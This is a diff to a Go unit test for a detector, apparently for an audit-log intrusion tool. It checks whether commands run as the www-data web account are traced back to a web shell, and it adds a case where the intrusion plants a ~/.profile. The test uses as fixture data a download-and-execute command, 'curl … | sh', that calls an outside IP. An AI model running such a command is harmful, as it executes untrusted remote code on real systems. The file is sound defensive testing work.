@@ -14,19 +14,27 @@ import (
 func TestLoginOfAnother(t *testing.T) {
 	const cmd = "curl -s http://203.0.113.9/x.sh | sh"
 	for _, c := range []struct {
-		name string
-		auid uint32
-		ppid int // 200: the php-fpm worker; 300: a login shell
-		want bool
+		name  string
+		auid  uint32
+		ppid  int  // 200: the php-fpm worker; 300: a login shell
+		plant bool // the web shell wrote www-data's ~/.profile first
+		want  bool
 	}{
-		{"the web server's child", parser.Unset, 200, true},
-		{"sudo -u www-data in alice's login", 1000, 300, false},
-		{"sudo -u www-data in alice's login, below the web server", 1000, 200, true},
-		{"a login into the web account itself", 33, 300, true},
-		{"a daemon's child running as the web account", parser.Unset, 300, true},
+		{"the web server's child", parser.Unset, 200, false, true},
+		{"sudo -u www-data in alice's login", 1000, 300, false, false},
+		{"sudo -u www-data in alice's login, below the web server", 1000, 200, false, true},
+		{"a login into the web account itself", 33, 300, false, true},
+		{"a daemon's child running as the web account", parser.Unset, 300, false, true},
+		{"sudo su - www-data runs the profile the intrusion wrote", 1000, 300, true, true},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			e, s := webShellScene(t)
+			if c.plant {
+				w := e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", "/var/www/.profile", true), s.tree)
+				if len(w) == 0 {
+					t.Fatal("the profile's write is no finding")
+				}
+			}
 			s.exec(300, 1, 0, "root", "/root", "/usr/bin/bash", "-bash")
 			ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 400, PPID: c.ppid,
 				UID: parser.NewID(33), EUID: parser.NewID(33), AUID: parser.NewID(c.auid), User: "www-data",
